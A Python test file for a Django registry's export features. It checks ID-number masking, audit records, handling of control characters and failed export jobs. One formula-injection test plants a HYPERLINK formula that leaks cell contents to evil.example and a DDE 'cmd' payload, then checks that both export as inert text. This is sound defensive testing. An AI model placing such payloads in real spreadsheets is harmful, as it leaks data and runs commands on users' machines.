"""Personal data, audit and robustness of every export (issue 6, findings 2, 5 and 6).

ID numbers follow one policy (core.masking) on pages, in the API and in every export; each
export (page, background job, command) leaves one audit record; stored values never run as
formulas and never make an export fail; a failing export job ends failed with a message."""
import io
import json
import re

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from citysafe.accounts.models import Organisation
from citysafe.core.audit_models import AuditChannel, AuditRecord
from citysafe.core.masking import mask_id_number
from citysafe.registry.io.excel_import import import_workbook
from citysafe.registry.io.models import DataJob
from citysafe.registry.io.tasks import run_export_job
from citysafe.registry.models import Enterprise, Person, Place
from citysafe.registry.services import update_place
from tests.data_io.conftest import LEDGER_HEADER_ROW, ledger_bytes, ledger_rows

FULL_ID_NUMBER = re.compile(r"\d{17}[\dX]")


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def officer_of(enterprise: Enterprise) -> Person:
    person = enterprise.safety_officer
    assert person is not None and person.id_number, "the demo county gives enterprises an officer with an ID number"
    return person


def column(rows: list[tuple], header: str) -> list:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


def test_leader_ledger_export_masks_id_numbers(world):
    persons = ledger_rows(ledger_bytes(world.leader, "persons"))
    numbers = [n for n in column(persons, "身份证号码") if n]
    assert numbers and not any(FULL_ID_NUMBER.search(n) for n in numbers)
    assert all("*" in n for n in numbers)

    officer = officer_of(world.enterprise_in_a)
    enterprises = ledger_rows(ledger_bytes(world.leader, "enterprises"))
    cells = column(enterprises, "安全管理负责人")
    assert f"{officer.name}/{mask_id_number(officer.id_number)}" in cells
    assert not any(FULL_ID_NUMBER.search(c or "") for c in cells)
    organisations = ledger_rows(ledger_bytes(world.leader, "organisations"))
    for header in ("第一责任人", "直接责任人"):
        assert not any(FULL_ID_NUMBER.search(c or "") for c in column(organisations, header))

    place = Place.objects.filter(township=world.township_a).order_by("id").first()
    update_place(world.admin, place.pk, {"responsible_person_ids": [officer.pk]})
    places = ledger_rows(ledger_bytes(world.leader, "places"))
    assert f"{officer.name}/{mask_id_number(officer.id_number)}" in column(places, "责任人")
    assert not any(FULL_ID_NUMBER.search(c or "") for c in column(places, "责任人"))

    # Those who keep the registry (and re-import it) still get the full number.
    own = ledger_rows(ledger_bytes(world.township_officer, "enterprises"))
    assert f"{officer.name}/{officer.id_number}" in column(own, "安全管理负责人")


def test_geojson_export_masks_id_numbers_in_person_cells(client, world):
    officer = officer_of(world.enterprise_in_a)
    client.force_login(world.leader)
    for resource in ("enterprises", "persons", "places", "organisations"):
        response = client.get(reverse("io:export", args=[resource]), {"format": "geojson"})
        assert response.status_code == 200
        body = b"".join(response.streaming_content).decode()
        assert not FULL_ID_NUMBER.search(body), resource
        json.loads(body)
    response = client.get(reverse("io:export", args=["enterprises"]), {"format": "geojson"})
    features = json.loads(b"".join(response.streaming_content))["features"]
    officers = {f["properties"]["safety_officer"] for f in features}
    assert f"{officer.name}/{mask_id_number(officer.id_number)}" in officers


def test_id_numbers_are_masked_alike_on_pages_in_the_api_and_in_exports(client, world):
    person = Person.objects.filter(township=world.township_a).exclude(id_number="").order_by("id").first()
    masked = mask_id_number(person.id_number)
    client.force_login(world.leader)
    page_list = client.get(reverse("registry:list", args=["persons"]), {"q": person.phone}).text
    page_detail = client.get(reverse("registry:detail", args=["persons", person.pk])).text
    api_list = client.get("/api/v1/persons", {"q": person.phone}).json()["items"]
    api_detail = client.get(f"/api/v1/persons/{person.pk}").json()
    ledger = ledger_rows(ledger_bytes(world.leader, "persons", search=person.phone))
    assert masked in page_list and masked in page_detail
    assert {p["id_number"] for p in api_list if p["id"] == person.pk} == {masked}
    assert api_detail["id_number"] == masked
    assert masked in column(ledger, "身份证号码")


def test_a_ledger_with_masked_id_numbers_reimports_without_changing_anyone(world):
    """A leader's ledger handed to the county office and imported back: masked numbers name
    the same persons and are never stored; a masked number cannot create a person."""
    before = dict(Person.objects.values_list("id", "id_number"))
    officers = dict(Enterprise.objects.values_list("id", "safety_officer_id"))
    persons = ledger_bytes(world.leader, "persons")
    enterprises = ledger_bytes(world.leader, "enterprises")
    assert "*" in "".join(n or "" for n in column(ledger_rows(persons), "身份证号码"))

    for resource, data in (("persons", persons), ("enterprises", enterprises)):
        result = import_workbook(world.admin, resource, data, filename=f"{resource}.xlsx")
        assert result.ok, (resource, result.file_error, result.errors[:3])
    assert dict(Person.objects.values_list("id", "id_number")) == before
    assert dict(Enterprise.objects.values_list("id", "safety_officer_id")) == officers

    workbook = load_workbook(io.BytesIO(persons))
    sheet = workbook.worksheets[0]
    headers = [c.value for c in sheet[LEDGER_HEADER_ROW]]
    row = sheet[LEDGER_HEADER_ROW + 1]
    row[headers.index("电话")].value = "13900000001"  # no such person: a masked number cannot add one
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = import_workbook(world.admin, "persons", buffer.getvalue(), filename="persons.xlsx")
    assert not result.ok
    assert any(e.header == "身份证号码" and "脱敏" in e.message for e in result.errors)


def export_records(user) -> list[AuditRecord]:
    return list(AuditRecord.objects.filter(action="export", actor=user).order_by("id"))


def test_every_export_leaves_an_audit_record(client, world, tmp_path):
    user = world.township_officer
    client.force_login(user)
    url = reverse("io:export", args=["places"])
    assert client.get(url, {"format": "xlsx", "place_type": "school", "q": "学"}).status_code == 200
    response = client.get(url, {"format": "geojson"})
    b"".join(response.streaming_content)
    job_response = client.get(reverse("io:export", args=["persons"]), {"format": "xlsx", "background": "1"})
    job = DataJob.objects.get(pk=int(job_response.url.rstrip("/").split("/")[-1]))
    run_export_job.call(job.pk)
    call_command("export_registry", "enterprises", str(tmp_path / "e.geojson"), "--user", user.username,
                 "--filter", f"township_id={world.township_a.pk}", verbosity=0)

    records = export_records(user)
    assert [(r.channel, r.after["resource"], r.after["format"]) for r in records] == [
        (AuditChannel.PAGE, "places", "xlsx"), (AuditChannel.PAGE, "places", "geojson"),
        (AuditChannel.WORKER, "persons", "xlsx"), (AuditChannel.COMMAND, "enterprises", "geojson")]
    page_xlsx, page_geojson, worker, command = records
    assert page_xlsx.after["filters"] == {"place_type": "school"} and page_xlsx.after["search"] == "学"
    assert page_xlsx.after["rows"] == len(ledger_rows(ledger_bytes(user, "places", search="学",
                                                                   filters={"place_type": "school"}))) - 1
    assert page_geojson.after["rows"] > page_xlsx.after["rows"]
    job.refresh_from_db()
    assert worker.after["job"] == job.pk and worker.after["rows"] == job.done_rows > 0
    assert command.after["filters"] == {"township_id": str(world.township_a.pk)} and command.after["rows"] > 0
    assert all(r.actor_id == user.pk and r.after["id_numbers"] == "full" for r in records)


def set_stored_name(person: Person, name: str) -> None:
    # Stored as an older version, another tool or a database console may have left it.
    Person.objects.filter(pk=person.pk).update(name=name)


def test_formula_like_names_are_written_as_text_cells(client, world):
    hostile = '=HYPERLINK("http://evil.example/?x="&A4,"click")'
    person = Person.objects.filter(township=world.township_a).order_by("id").first()
    set_stored_name(person, hostile)
    Person.objects.filter(pk=person.pk).update(title="@SUM(1+1)")
    Enterprise.objects.filter(pk=world.enterprise_in_a.pk).update(address="+1+cmd|' /C calc'!A0",
                                                                  legal_representative="-2+3")
    client.force_login(world.township_officer)
    for resource, values in (("persons", {hostile, "@SUM(1+1)"}), ("enterprises", {"+1+cmd|' /C calc'!A0", "-2+3"})):
        response = client.get(reverse("io:export", args=[resource]), {"format": "xlsx"})
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
        cells = [c for row in sheet.iter_rows(min_row=LEDGER_HEADER_ROW + 1) for c in row if c.value in values]
        assert {c.value for c in cells} == values, resource
        for cell in cells:
            assert cell.data_type == "s" and cell.quotePrefix, (cell.value, cell.data_type)


def test_export_of_a_name_with_a_control_character_succeeds(client, world):
    person = Person.objects.filter(township=world.township_a).order_by("id").first()
    set_stored_name(person, "张\x01三\x1b[31m")
    Enterprise.objects.filter(pk=world.enterprise_in_a.pk).update(name="企业\x0b名称\ufffe")
    # The exporting unit, written above the headers.
    Organisation.objects.filter(pk=world.township_officer.organisation_id).update(name="锁南镇\x07人民政府")
    client.force_login(world.township_officer)
    for resource, shown in (("persons", "张\ufffd三\ufffd[31m"), ("enterprises", "企业\ufffd名称\ufffd")):
        response = client.get(reverse("io:export", args=[resource]), {"format": "xlsx"})
        assert response.status_code == 200
        rows = ledger_rows(b"".join(response.streaming_content))
        assert any(shown in row for row in rows), resource
        geo = client.get(reverse("io:export", args=[resource]), {"format": "geojson"})
        assert geo.status_code == 200
        json.loads(b"".join(geo.streaming_content))
    job_response = client.get(reverse("io:export", args=["persons"]), {"format": "xlsx", "background": "1"})
    job = DataJob.objects.get(pk=int(job_response.url.rstrip("/").split("/")[-1]))
    run_export_job.call(job.pk)
    job.refresh_from_db()
    assert job.status == DataJob.Status.SUCCEEDED and job.result


def test_failed_export_job_ends_failed_with_a_message(client, world, settings, tmp_path):
    # The file store is broken (a file where its folder should be): the job cannot save its result.
    blocker = tmp_path / "blocker"
    blocker.write_text("not a folder")
    settings.MEDIA_ROOT = blocker / "media"
    client.force_login(world.township_officer)
    response = client.get(reverse("io:export", args=["persons"]), {"format": "xlsx", "background": "1"})
    job = DataJob.objects.get(pk=int(response.url.rstrip("/").split("/")[-1]))
    run_export_job.call(job.pk)
    job.refresh_from_db()
    assert job.status == DataJob.Status.FAILED and job.finished_at is not None
    assert "导出失败" in job.message and str(job.pk) in job.message
    assert not job.result
    page = client.get(reverse("io:job", args=[job.pk])).text
    assert "导出失败" in page and 'data-status="failed"' in page and "hx-trigger" not in page

    # A job whose stored filter no longer parses ends the same way.
    stale = DataJob.objects.create(direction=DataJob.Direction.EXPORT, resource="persons", user=world.township_officer,
                                   file_format="xlsx", options={"filters": {"no_such_filter": "1"}})
    run_export_job.call(stale.pk)
    stale.refresh_from_db()
    assert stale.status == DataJob.Status.FAILED and "导出失败" in stale.message


def test_exports_tolerate_odd_stored_geometries_and_numbers(client, world):
    places = list(Place.objects.filter(township=world.township_a).order_by("id")[:2])
    Place.objects.filter(pk=places[0].pk).update(
        geometry={"type": "LineString", "coordinates": [["103.5", "35.6"], ["103.6", "35.7"]]})
    Place.objects.filter(pk=places[1].pk).update(geometry=[103.5, 35.6], capacity=None)
    client.force_login(world.township_officer)
    for file_format in ("xlsx", "geojson"):
        response = client.get(reverse("io:export", args=["places"]), {"format": file_format})
        assert response.status_code == 200
        body = b"".join(response.streaming_content)
        if file_format == "geojson":
            names = {f["properties"]["name"] for f in json.loads(body)["features"]}
        else:
            names = set(column(ledger_rows(body), "名称"))
        assert {p.name for p in places} <= names
